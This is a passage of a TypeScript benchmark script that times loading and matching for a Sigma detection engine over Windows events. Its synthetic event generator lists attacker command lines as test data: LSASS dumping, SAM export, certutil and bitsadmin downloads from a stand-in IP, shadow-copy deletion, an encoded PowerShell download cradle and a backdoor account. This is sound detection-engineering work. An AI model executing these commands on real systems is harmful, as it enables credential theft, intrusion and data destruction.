/**
 * Sigma detection on Windows events, one core: how long a rule set takes to load, and what
 * matching costs per event with 100, 1,000 and all Windows rules, through the built-in `windows`
 * pipeline.
 *   npm run bench:sigma -- --rules <dir|file ...> [--events <file ...>] [options]
 * e.g. with SigmaHQ's corpus (github.com/SigmaHQ/sigma):
 *   npm run bench:sigma -- --rules sigma/rules sigma/rules-emerging-threats sigma/rules-threat-hunting
 *
 * Targets: <= 2 µs/event with 100 rules, <= 20 µs/event with all SigmaHQ Windows rules (indexed
 * engine.match), loading the whole SigmaHQ corpus (rules, rules-emerging-threats,
 * rules-threat-hunting) < 2 s.
 *
 * Load: loadRuleSet of every --rules path, timed in a fresh process (wall, CPU, peak RSS, from
 * GNU time), then the same work in this process in stages (read, parse, pipelines, compile +
 * index), also cold: it is the first thing this process does.
 *
 * Matching: the rules whose log source is product windows; N of them, a sample drawn with a
 * seeded PRNG (the same rules on every run; first N by path would be all Security/System
 * builtin rules, which see few events), or all. Events are parsed objects (as the detect transform
 * gets them), cycled; engine.match (indexed) and engine.matchAll (every rule, no index) are timed
 * in batches of 1,000 for at least --secs seconds each. Matches per 1,000 events are counted in
 * one pass over the events; match and matchAll must agree on them (checked).
 *
 * The floor, measured in the same run on the same events: JSON.parse of the event's text, one field
 * added, JSON.stringify, the least any JSON pipeline does per event; "x floor" is ns/event over the
 * floor's. MB/s counts the events' JSON text.
 *
 * Events: --events reads JSON files (one object per line, or an array; .zip archives of such files
 * are read too, e.g. the OTRF Security-Datasets), else a synthetic mix generated here (Sysmon 1, 3,
 * 7, 10, 11, 12, 13, 22, Security 4624, 4625, 4688, PowerShell 4104, in the flat rendering NXLog
 * and OTRF write), a few percent of them attacker activity that rules are written for.
 *
 * Options: --secs S (per measurement, default 2), --count N (synthetic events, default 20,000),
 * --sizes 100,1000,all, --seed N, --profile (CPU-profile indexed matching with the most rules
 * and print the hottest functions).
 */
import { readFileSync } from 'node:fs';
import { Session } from 'node:inspector';
import { cpus, loadavg } from 'node:os';
import { extname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { inflateRawSync } from 'node:zlib';
import { loadPipeline } from '../src/sigma/builtin-pipelines.js';
import type { SigmaEvent } from '../src/sigma/compile.js';
import { SigmaEngine, type EngineRule } from '../src/sigma/engine.js';
import { parseSigma } from '../src/sigma/parse.js';
import { applyPipelines } from '../src/sigma/pipeline.js';
import { loadRuleSet, ruleFiles } from '../src/sigma/ruleset.js';
import type { RuleError, SigmaRule } from '../src/sigma/types.js';
import { prng } from './events.js';
import { measure } from './measure.js';

// ---------------------------------------------------------------------------------------------
// Arguments

const argv = process.argv.slice(2);
/** The values after --name, up to the next --option. */
function list(name: string): string[] {
  const i = argv.indexOf(`--${name}`);
  if (i < 0) return [];
  const out: string[] = [];
  for (let j = i + 1; j < argv.length && !argv[j]!.startsWith('--'); j++) out.push(argv[j]!);
  return out;
}
const num = (name: string, def: number) => { const v = list(name)[0]; return v === undefined ? def : Number(v); };
const rulePaths = list('rules');
const eventFiles = list('events');
const SECS = num('secs', 2);
const COUNT = num('count', 20_000);
const SEED = num('seed', 1);
const SIZES = (list('sizes')[0] ?? '100,1000,all').split(',');
const PROFILE = argv.includes('--profile');
const LOAD_ONLY = argv.includes('--load-only');

if (rulePaths.length === 0) {
  process.stderr.write(`usage: npm run bench:sigma -- --rules <dir|file ...> [--events <file ...>] [--secs S] [--count N] [--sizes 100,1000,all] [--profile]

Give Sigma rules, e.g. SigmaHQ's corpus (git clone https://github.com/SigmaHQ/sigma):
  npm run bench:sigma -- --rules sigma/rules sigma/rules-emerging-threats sigma/rules-threat-hunting
Loading is timed on all of them; matching uses the Windows rules among them.
--events takes JSON event files (one object per line, or an array, or .zip archives of them,
such as the OTRF Security-Datasets); without it a synthetic Windows event mix is generated.
`);
  process.exit(64);
}

const pipeline = loadPipeline('windows');

if (LOAD_ONLY) {
  // The child of the cold load measurement: load, say how long it took, exit.
  const t0 = process.hrtime.bigint();
  const rs = loadRuleSet(rulePaths, { cwd: process.cwd(), pipelines: [pipeline] });
  const ms = Number(process.hrtime.bigint() - t0) / 1e6;
  process.stdout.write(JSON.stringify({ ms, files: rs.files.length, rules: rs.engine.rules.length, errors: rs.errors.length }) + '\n');
  process.exit(0);
}

const loadStart = loadavg().map((x) => x.toFixed(2)).join(' ');
const now = () => Number(process.hrtime.bigint()) / 1e6;
const cpuMs = () => { const c = process.cpuUsage(); return (c.user + c.system) / 1000; };
const peakRss = () => Math.round(process.resourceUsage().maxRSS / 1024);
const fmt = (n: number, digits = 0) => n.toLocaleString('en', { maximumFractionDigits: digits, minimumFractionDigits: digits });

// ---------------------------------------------------------------------------------------------
// Load, cold, in this process, by stage

const stage: Record<string, number> = {};
let t = now();
const files = ruleFiles(rulePaths, process.cwd());
const texts = files.map((f) => readFileSync(f, 'utf8'));
stage.read = now() - t;
t = now();
const parsed: SigmaRule[] = [];
const errors: RuleError[] = [];
let filters = 0, correlations = 0;
for (let i = 0; i < files.length; i++) {
  const r = parseSigma(texts[i]!, files[i]!);
  errors.push(...r.errors);
  for (const d of r.docs) {
    if (d.type === 'rule') parsed.push(d);
    else if (d.type === 'filter') filters++;
    else correlations++;
  }
}
stage.parse = now() - t;
t = now();
const ready: SigmaRule[] = [];
let unscoped = 0;
for (const r of parsed) {
  const x = applyPipelines(r, [pipeline]);
  if (!('type' in x)) errors.push(x);
  // As loadRuleSet does: a rule the pipeline does not scope to a log source is left out.
  else if (x.conditions.length === 0) unscoped++;
  else ready.push(x);
}
stage.pipelines = now() - t;
t = now();
const full = new SigmaEngine(ready, [], {}, errors);
stage.compile = now() - t;
const compiledAll = full.rules.length;
const textBytes = texts.reduce((a, x) => a + x.length, 0);
texts.length = 0;
await tick();

// The same load as `sluice` does it (loadRuleSet: filters and correlations too), in a fresh process.
const self = fileURLToPath(import.meta.url);
let cold: { ms: number; cpuMs?: number; peakRssMB?: number } | undefined;
try {
  const m = await measure(process.execPath, [self, '--load-only', '--rules', ...rulePaths]);
  if (m.code === 0) cold = { ms: JSON.parse(m.stdout).ms, cpuMs: m.cpuSecs * 1000, peakRssMB: m.peakRssMB };
} catch (e) {
  process.stderr.write(`cold load not measured in a fresh process: ${(e as Error).message}\n`);
}

// ---------------------------------------------------------------------------------------------
// Events

interface EventSet { events: SigmaEvent[]; lines: string[]; bytes: number; description: string[] }

const events: EventSet = eventFiles.length ? readEvents(eventFiles) : synthetic(COUNT, 42);
if (events.events.length === 0) {
  process.stderr.write('no events in the --events files\n');
  process.exit(65);
}

// ---------------------------------------------------------------------------------------------
// The floor: JSON.parse + one field + JSON.stringify of the same events

const floorNs = timeLoop(events.lines.length, (i) => {
  const e = JSON.parse(events.lines[i]!) as Record<string, unknown>;
  e.processed = true;
  return JSON.stringify(e).length;
}).nsPerEvent;

// ---------------------------------------------------------------------------------------------
// Matching, by number of rules

const windowsRules = full.rules.map((r) => r.rule).filter((r) => r.logsource.product === 'windows');
const sizes = SIZES.map((s) => (s === 'all' ? windowsRules.length : Number(s))).filter((n) => n > 0 && n <= windowsRules.length);
const uniqueSizes = [...new Set(sizes)];

if (PROFILE) {
  const n = Math.max(...uniqueSizes);
  const engine = new SigmaEngine(sample(windowsRules, n, SEED));
  const out: EngineRule[] = [];
  timeLoop(events.events.length, (i) => engine.match(events.events[i]!, out)); // warm up
  const top = await profile(() => timeLoop(events.events.length, (i) => engine.match(events.events[i]!, out), Math.max(SECS, 10)));
  console.log(`\n## CPU profile of engine.match with ${fmt(n)} Windows rules (self time)\n`);
  console.log('| self ms | % | function | where |');
  console.log('| ---: | ---: | --- | --- |');
  for (const r of top) console.log(`| ${fmt(r.ms)} | ${r.pct.toFixed(1)} | ${r.name} | ${r.where} |`);
  process.exit(0);
}

interface Row {
  rules: number; compile_ms: number;
  match_ns: number; match_cpu_ns: number; match_per_s: number; match_mb_s: number; floor_x: number;
  all_ns: number; all_per_s: number;
  matches_per_1k: number; events_matched_pct: number; agree: boolean;
  literals: number; indexed_pct: number; automata_mb: number; peak_rss_mb: number;
}
const rows: Row[] = [];
for (const n of uniqueSizes) {
  await tick(); // let the compile-time tables of the previous engine go
  const rules = sample(windowsRules, n, SEED);
  const c0 = now();
  const engine = new SigmaEngine(rules);
  const compileMs = now() - c0;
  const out: EngineRule[] = [];
  // Correctness and the hit rate, in one pass: the index must not change what matches.
  let hits = 0, hitsAll = 0, matched = 0, agree = true;
  for (const e of events.events) {
    const a = engine.match(e, out);
    const ids = out.map((r) => r.index).join();
    const b = engine.matchAll(e, out);
    if (ids !== out.map((r) => r.index).join()) agree = false;
    hits += a; hitsAll += b;
    if (a > 0) matched++;
  }
  if (hits !== hitsAll) agree = false;
  const m = timeLoop(events.events.length, (i) => engine.match(events.events[i]!, out));
  const all = timeLoop(events.events.length, (i) => engine.matchAll(events.events[i]!, out));
  rows.push({
    rules: n, compile_ms: Math.round(compileMs),
    match_ns: Math.round(m.nsPerEvent), match_cpu_ns: Math.round(m.cpuNsPerEvent), match_per_s: Math.round(1e9 / m.nsPerEvent),
    match_mb_s: +((events.bytes / events.events.length) * (1e9 / m.nsPerEvent) / 1e6).toFixed(1), floor_x: +(m.nsPerEvent / floorNs).toFixed(2),
    all_ns: Math.round(all.nsPerEvent), all_per_s: Math.round(1e9 / all.nsPerEvent),
    matches_per_1k: +((1000 * hits) / events.events.length).toFixed(1), events_matched_pct: +((100 * matched) / events.events.length).toFixed(2), agree,
    literals: engine.stats.literals, indexed_pct: Math.round((100 * engine.stats.indexed) / engine.stats.rules), automata_mb: +(engine.stats.automataBytes / 1e6).toFixed(1),
    peak_rss_mb: peakRss(),
  });
}

// ---------------------------------------------------------------------------------------------
// Report

const loadTotal = stage.read! + stage.parse! + stage.pipelines! + stage.compile!;
const coldMs = cold?.ms ?? loadTotal;
console.log(`\n## Sigma detection, windows pipeline, one core, node ${process.version}\n`);
console.log(`machine: ${cpus().length} CPUs (${cpus()[0]?.model ?? '?'}), load average ${loadStart} at the start, ${loadavg().map((x) => x.toFixed(2)).join(' ')} at the end (other processes share the CPUs; "CPU ns/event" is the process's CPU time per event)`);
console.log(`rules: ${fmt(files.length)} files (${(textBytes / 1e6).toFixed(1)} MB) from ${rulePaths.join(' ')}: ${fmt(parsed.length)} rules (+${filters} filters, ${correlations} correlations), ${fmt(compiledAll)} compiled, ${fmt(unscoped)} left out as the windows pipeline does not scope them to a log source, ${fmt(errors.length)} other problems; ${fmt(windowsRules.length)} Windows rules (logsource product windows)`);
console.log(`rule samples: ${uniqueSizes.map((n) => (n === windowsRules.length ? `all ${fmt(n)}` : fmt(n))).join(', ')} Windows rules, drawn with seed ${SEED} (mulberry32), the same on every run`);
console.log(`events: ${fmt(events.events.length)} distinct, ${Math.round(events.bytes / events.events.length)} B/event as JSON, cycled`);
for (const line of events.description) console.log(`  ${line}`);

console.log('\n### Loading every --rules file\n');
console.log('| stage | ms |');
console.log('| --- | ---: |');
if (cold) console.log(`| loadRuleSet in a fresh process (as \`sluice\` loads rules; CPU ${fmt(cold.cpuMs ?? 0)} ms, peak RSS ${fmt(cold.peakRssMB ?? 0)} MB) | **${fmt(cold.ms)}** |`);
console.log(`| this process, cold: read ${fmt(files.length)} files | ${fmt(stage.read!)} |`);
console.log(`| parse (YAML + Sigma) | ${fmt(stage.parse!)} |`);
console.log(`| windows pipeline | ${fmt(stage.pipelines!)} |`);
console.log(`| compile + index (SigmaEngine, ${fmt(compiledAll)} rules) | ${fmt(stage.compile!)} |`);
console.log(`| total | ${fmt(loadTotal)} |`);

console.log(`\n### Matching (ns per event; the floor, JSON.parse + 1 field + JSON.stringify of the same events, is ${fmt(floorNs)} ns = ${fmt((events.bytes / events.events.length) * (1e3 / floorNs), 1)} MB/s)\n`);
console.log('| Windows rules | compile ms | match ns/event | events/s | MB/s | x floor | CPU ns/event | matchAll ns/event | matchAll events/s | matches /1k events | events with a match | literals | indexed by logsource | automata MB | peak RSS MB |');
console.log('| ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |');
for (const r of rows) {
  console.log(`| ${fmt(r.rules)} | ${fmt(r.compile_ms)} | **${fmt(r.match_ns)}** | ${fmt(r.match_per_s)} | ${r.match_mb_s} | ${r.floor_x} | ${fmt(r.match_cpu_ns)} | ${fmt(r.all_ns)} | ${fmt(r.all_per_s)} | ${r.matches_per_1k} | ${r.events_matched_pct}% | ${fmt(r.literals)} | ${r.indexed_pct}% | ${r.automata_mb} | ${r.peak_rss_mb} |`);
}
if (rows.some((r) => !r.agree)) console.log('\n**match and matchAll disagree on some event: the index drops or adds matches (a bug)**');
else console.log('\nmatch and matchAll found the same rules on every event.');
if (rows.length > 1) {
  const a = rows[0]!, b = rows[rows.length - 1]!;
  const k = b.rules / a.rules;
  console.log(`growth from ${fmt(a.rules)} to ${fmt(b.rules)} rules (x${k.toFixed(1)}): match x${(b.match_ns / a.match_ns).toFixed(1)} (${fmt((b.match_ns - a.match_ns) / (b.rules - a.rules), 1)} ns per added rule), matchAll x${(b.all_ns / a.all_ns).toFixed(1)} (${fmt((b.all_ns - a.all_ns) / (b.rules - a.rules), 1)} ns per added rule); compile ${fmt(b.compile_ms / b.rules, 2)} ms per rule`);
}

console.log('\ntargets:');
const at = (n: number) => rows.find((r) => r.rules === n);
const small = at(100);
const allRow = at(windowsRules.length);
console.log(`- <= 2 µs/event with 100 rules: ${small ? `${fmt(small.match_ns / 1000, 2)} µs (${small.match_ns <= 2000 ? 'met' : 'NOT met'})` : 'not measured (fewer than 100 Windows rules)'}`);
console.log(`- <= 20 µs/event with all Windows rules: ${allRow ? `${fmt(allRow.match_ns / 1000, 2)} µs with ${fmt(allRow.rules)} (${allRow.match_ns <= 20_000 ? 'met' : 'NOT met'})` : 'not measured'}`);
console.log(`- loading the whole corpus < 2 s: ${fmt(coldMs)} ms for ${fmt(files.length)} files${cold ? ' (fresh process)' : ' (this process)'} (${coldMs < 2000 ? 'met' : 'NOT met'}; the target is for SigmaHQ's rules, rules-emerging-threats and rules-threat-hunting)`);
console.log('\n' + JSON.stringify({ node: process.version, rule_files: files.length, rules: parsed.length, compiled: compiledAll, windows_rules: windowsRules.length, events: events.events.length, bytes_per_event: Math.round(events.bytes / events.events.length), floor_ns: Math.round(floorNs), load: { cold_process: cold, stages_ms: Object.fromEntries(Object.entries(stage).map(([k, v]) => [k, Math.round(v)])) }, matching: rows }));

// ---------------------------------------------------------------------------------------------
// Helpers

function tick(): Promise<void> {
  return new Promise((r) => setImmediate(r));
}

/**
 * Runs `fn(i)` for i cycling over 0..n-1 in batches of 1,000 until at least `secs` seconds have
 * passed (after one untimed warm-up batch). Wall and CPU nanoseconds per call.
 */
function timeLoop(n: number, fn: (i: number) => unknown, secs = SECS): { nsPerEvent: number; cpuNsPerEvent: number } {
  let i = 0, sink = 0;
  for (let k = 0; k < Math.min(1000, n); k++) sink += Number(fn(k)) || 0;
  let done = 0, wall = 0, cpu = 0;
  while (wall < secs * 1000) {
    const c0 = cpuMs(), t0 = now();
    for (let k = 0; k < 1000; k++) {
      sink += Number(fn(i)) || 0;
      if (++i === n) i = 0;
    }
    wall += now() - t0;
    cpu += cpuMs() - c0;
    done += 1000;
  }
  if (sink === -1) console.log(sink); // keeps the results alive
  return { nsPerEvent: (wall * 1e6) / done, cpuNsPerEvent: (cpu * 1e6) / done };
}

/** `n` rules drawn without replacement with a seeded PRNG (all of them when n is the count), in rule order. */
function sample<T>(all: readonly T[], n: number, seed: number): T[] {
  if (n >= all.length) return all.slice();
  const r = prng(seed);
  const idx = all.map((_, i) => i);
  for (let i = 0; i < n; i++) {
    const j = i + Math.floor(r() * (idx.length - i));
    [idx[i], idx[j]] = [idx[j]!, idx[i]!];
  }
  return idx.slice(0, n).sort((a, b) => a - b).map((i) => all[i]!);
}

/** CPU profile of `fn` (node:inspector, in this process): the hottest functions by self time. */
async function profile(fn: () => void): Promise<Array<{ ms: number; pct: number; name: string; where: string }>> {
  const s = new Session();
  s.connect();
  const post = (method: string, params?: object) => new Promise<unknown>((res, rej) => s.post(method, params ?? {}, (err, r) => (err ? rej(err) : res(r))));
  await post('Profiler.enable');
  await post('Profiler.setSamplingInterval', { interval: 100 });
  await post('Profiler.start');
  fn();
  const { profile: p } = (await post('Profiler.stop')) as { profile: { nodes: Array<{ id: number; callFrame: { functionName: string; url: string; lineNumber: number } }>; samples: number[]; timeDeltas: number[] } };
  s.disconnect();
  const byNode = new Map<number, number>();
  p.samples.forEach((id, i) => byNode.set(id, (byNode.get(id) ?? 0) + (p.timeDeltas[i] ?? 0)));
  const byFn = new Map<string, { ms: number; name: string; where: string }>();
  let total = 0;
  for (const n of p.nodes) {
    const us = byNode.get(n.id) ?? 0;
    total += us;
    const where = n.callFrame.url ? `${n.callFrame.url.replace(/^.*\/dist\//, 'dist/').replace(/^file:\/\//, '')}:${n.callFrame.lineNumber + 1}` : '';
    const key = `${n.callFrame.functionName}@${where}`;
    const e = byFn.get(key) ?? { ms: 0, name: n.callFrame.functionName || '(anonymous)', where };
    e.ms += us / 1000;
    byFn.set(key, e);
  }
  return [...byFn.values()].sort((a, b) => b.ms - a.ms).slice(0, 25).map((e) => ({ ...e, pct: (100 * e.ms * 1000) / total }));
}

// ---------------------------------------------------------------------------------------------
// Events from files

function readEvents(paths: string[]): EventSet {
  const lines: string[] = [];
  const sources: string[] = [];
  for (const p of paths) {
    const abs = resolve(p);
    const buf = readFileSync(abs);
    const texts = extname(abs).toLowerCase() === '.zip' ? unzip(buf).filter((f) => /\.json$/i.test(f.name)).map((f) => f.data.toString('utf8')) : [buf.toString('utf8')];
    for (const text of texts) {
      const before = lines.length;
      const trimmed = text.trimStart();
      if (trimmed.startsWith('[')) for (const e of JSON.parse(trimmed) as unknown[]) lines.push(JSON.stringify(e));
      else for (const l of text.split('\n')) if (l.trim() !== '') lines.push(l.trim());
      sources.push(`${p}: ${fmt(lines.length - before)}`);
    }
  }
  const evs: SigmaEvent[] = [];
  const keep: string[] = [];
  let bytes = 0;
  for (const l of lines) {
    let e: unknown;
    try { e = JSON.parse(l); } catch { continue; }
    if (e === null || typeof e !== 'object' || Array.isArray(e)) continue;
    evs.push(e as SigmaEvent);
    keep.push(l);
    bytes += Buffer.byteLength(l) + 1;
  }
  return { events: evs, lines: keep, bytes, description: [`from ${sources.length} file(s): ${sources.join(', ')}`, ...describeMix(evs)] };
}

/** The renderings the windows pipeline reads, and the commonest channel/event id pairs. */
function describeMix(evs: SigmaEvent[]): string[] {
  const rendering = { flat: 0, xml: 0, winlogbeat: 0, other: 0 };
  const kinds = new Map<string, number>();
  for (const e of evs) {
    const sys = (e.Event as { System?: Record<string, unknown> } | undefined)?.System;
    const wl = e.winlog as Record<string, unknown> | undefined;
    let ch: unknown, id: unknown;
    if (e.EventID !== undefined && e.Channel !== undefined) { rendering.flat++; ch = e.Channel; id = e.EventID; }
    else if (sys) { rendering.xml++; ch = sys.Channel; id = sys.EventID; }
    else if (wl) { rendering.winlogbeat++; ch = wl.channel; id = wl.event_id; }
    else { rendering.other++; ch = '?'; id = '?'; }
    const k = `${String(ch)} ${String(id)}`;
    kinds.set(k, (kinds.get(k) ?? 0) + 1);
  }
  const pct = (n: number) => `${((100 * n) / evs.length).toFixed(1)}%`;
  const top = [...kinds].sort((a, b) => b[1] - a[1]);
  return [
    `rendering: flat (EventID, Channel and EventData fields at the top, as NXLog and OTRF write it) ${pct(rendering.flat)}, event XML as JSON (Event.System, Event.EventData) ${pct(rendering.xml)}, winlogbeat (winlog.*) ${pct(rendering.winlogbeat)}, other ${pct(rendering.other)}; the windows pipeline reads the first three`,
    `${top.length} channel/event id pairs; commonest: ${top.slice(0, 14).map(([k, n]) => `${k} ${pct(n)}`).join(', ')}`,
  ];
}

/** The files of a .zip archive (stored or deflated entries; enough for dataset archives). */
function unzip(buf: Buffer): Array<{ name: string; data: Buffer }> {
  let eocd = -1;
  for (let i = buf.length - 22; i >= Math.max(0, buf.length - 65_557); i--) if (buf.readUInt32LE(i) === 0x06054b50) { eocd = i; break; }
  if (eocd < 0) throw new Error('not a zip archive (no end of central directory)');
  const count = buf.readUInt16LE(eocd + 10);
  let p = buf.readUInt32LE(eocd + 16);
  const out: Array<{ name: string; data: Buffer }> = [];
  for (let k = 0; k < count; k++) {
    if (buf.readUInt32LE(p) !== 0x02014b50) throw new Error('zip central directory is damaged');
    const method = buf.readUInt16LE(p + 10);
    const size = buf.readUInt32LE(p + 20);
    const nameLen = buf.readUInt16LE(p + 28), extraLen = buf.readUInt16LE(p + 30), commentLen = buf.readUInt16LE(p + 32);
    const local = buf.readUInt32LE(p + 42);
    const name = buf.toString('utf8', p + 46, p + 46 + nameLen);
    p += 46 + nameLen + extraLen + commentLen;
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const raw = buf.subarray(start, start + size);
    if (method === 0) out.push({ name, data: raw });
    else if (method === 8) out.push({ name, data: inflateRawSync(raw) });
    else throw new Error(`${name}: zip compression method ${method} is not supported; unzip it first`);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// The synthetic mix

/**
 * A Windows host with Sysmon and Security auditing, in the flat rendering (NXLog, OTRF): each
 * event carries the System members (EventID, Channel, SourceName, Hostname...), its EventData
 * fields and the rendered Message. 3% of events are attacker activity the SigmaHQ rules look for.
 */
function synthetic(count: number, seed: number): EventSet {
  const r = prng(seed);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)]!;
  const hex = (n: number) => Array.from({ length: n }, () => '0123456789ABCDEF'[Math.floor(r() * 16)]).join('');
  const guid = () => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`.toLowerCase();
  const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
  const hosts = ['WKS-0142.corp.example.com', 'WKS-0388.corp.example.com', 'SRV-FILE01.corp.example.com', 'SRV-DC01.corp.example.com', 'WKS-0007.corp.example.com'];
  const users = ['CORP\\alice', 'CORP\\bob', 'CORP\\carol', 'NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\LOCAL SERVICE', 'CORP\\svc_backup'];
  const procs: Array<[string, string, string]> = [ // image, command line, original file name
    ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe'],
    ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p', 'svchost.exe'],
    ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=1836,i,9141920216711736410,2410 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=12 --mojo-platform-channel-handle=4460 /prefetch:1', 'chrome.exe'],
    ['C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none', 'msedge.exe'],
    ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 'EXPLORER.EXE'],
    ['C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', 'RuntimeBroker.exe'],
    ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'CONHOST.EXE'],
    ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe Install $(Arg0)', 'taskhostw.exe'],
    ['C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process --enable-features=WinUseBrowserSpellChecker', 'Teams.exe'],
    ['C:\\Program Files\\Git\\cmd\\git.exe', '"C:\\Program Files\\Git\\cmd\\git.exe" fetch --prune origin', 'git.exe'],
    ['C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\system32\\cmd.exe" /c ver', 'Cmd.Exe'],
    ['C:\\Program Files\\nodejs\\node.exe', '"C:\\Program Files\\nodejs\\node.exe" C:\\src\\app\\server.js --port 8080', 'node.exe'],
    ['C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"', 'MsMpEng.exe'],
    ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'Wmiprvse.exe'],
    ['C:\\Windows\\System32\\backgroundTaskHost.exe', '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider', 'backgroundTaskHost.exe'],
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ', 'Outlook.exe'],
  ];
  // Attacker activity, as process creations (image, command line, original file name, parent).
  const bad: Array<[string, string, string, string]> = [
    ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAA=', 'PowerShell.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'],
    ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full', 'RUNDLL32.EXE', 'C:\\Windows\\System32\\cmd.exe'],
    ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/update.exe C:\\Users\\Public\\update.exe', 'CertUtil.exe', 'C:\\Windows\\System32\\cmd.exe'],
    ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'VSSADMIN.EXE', 'C:\\Windows\\System32\\cmd.exe'],
    ['C:\\Windows\\System32\\reg.exe', 'reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save', 'reg.exe', 'C:\\Windows\\System32\\cmd.exe'],
    ['C:\\Windows\\System32\\mshta.exe', 'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -ep bypass"", 0:close")', 'MSHTA.EXE', 'C:\\Windows\\explorer.exe'],
    ['C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin.exe /transfer job /download /priority high http://203.0.113.7/a.ps1 C:\\Users\\Public\\a.ps1', 'bitsadmin.exe', 'C:\\Windows\\System32\\cmd.exe'],
    ['C:\\Windows\\System32\\net.exe', 'net.exe user helpdesk P@ssw0rd1 /add', 'net.exe', 'C:\\Windows\\System32\\cmd.exe'],
    ['C:\\Windows\\System32\\schtasks.exe', 'schtasks.exe /create /sc minute /mo 5 /tn "OneDrive Updater" /tr C:\\Users\\Public\\update.exe /f', 'schtasks.exe', 'C:\\Windows\\System32\\cmd.exe'],
    ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic.exe shadowcopy delete /nointeractive', 'wmic.exe', 'C:\\Windows\\System32\\cmd.exe'],
    ['C:\\Windows\\System32\\whoami.exe', 'whoami.exe /all', 'whoami.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
    ['C:\\Users\\Public\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp', 'procdump', 'C:\\Windows\\System32\\cmd.exe'],
  ];
  const domains = ['www.google.com', 'login.microsoftonline.com', 'outlook.office365.com', 'teams.microsoft.com', 'github.com', 'api.github.com', 'update.googleapis.com', 'wpad.corp.example.com', 'SRV-DC01.corp.example.com', 'settings-win.data.microsoft.com'];
  const badDomains = ['x7k2.ngrok.io', 'pastebin.com', 'raw.githubusercontent.com', 'transfer.sh', 'api.telegram.org'];
  const dlls = ['C:\\Windows\\System32\\ntdll.dll', 'C:\\Windows\\System32\\kernel32.dll', 'C:\\Windows\\System32\\KernelBase.dll', 'C:\\Windows\\System32\\advapi32.dll', 'C:\\Windows\\System32\\combase.dll', 'C:\\Windows\\System32\\ws2_32.dll', 'C:\\Windows\\System32\\crypt32.dll', 'C:\\Windows\\System32\\wininet.dll', 'C:\\Windows\\System32\\amsi.dll', 'C:\\Program Files\\Google\\Chrome\\Application\\130.0.6723.92\\chrome_elf.dll'];
  const badDlls = ['C:\\Users\\Public\\version.dll', 'C:\\Windows\\Temp\\dbghelp.dll', 'C:\\Users\\alice\\AppData\\Local\\Temp\\wsock32.dll'];
  const files = ['C:\\Users\\alice\\AppData\\Local\\Temp\\chrome_BITS_1234_5678\\update.tmp', 'C:\\Users\\alice\\Downloads\\report-Q3.xlsx', 'C:\\Windows\\Prefetch\\SVCHOST.EXE-1234ABCD.pf', 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Teams\\logs.txt', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\1\\a.bin', 'C:\\Windows\\ServiceProfiles\\LocalService\\AppData\\Local\\lastalive0.dat'];
  const badFiles = ['C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs', 'C:\\Windows\\Temp\\lsass.dmp', 'C:\\Users\\Public\\update.exe', 'C:\\Windows\\System32\\Tasks\\OneDrive Updater'];
